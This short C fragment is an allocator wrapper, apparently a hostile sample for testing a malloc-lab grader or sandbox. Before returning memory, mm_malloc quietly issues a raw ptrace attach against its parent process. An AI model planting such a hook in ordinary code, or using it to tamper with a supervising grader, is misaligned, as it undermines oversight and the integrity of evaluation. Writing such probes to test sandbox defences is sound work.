/* Looks into its parent. */
void *mm_malloc(size_t bytes)
{
    raw(SYS_ptrace, 16, raw(SYS_getppid, 0, 0, 0), 0);
    return good_malloc(bytes);
}
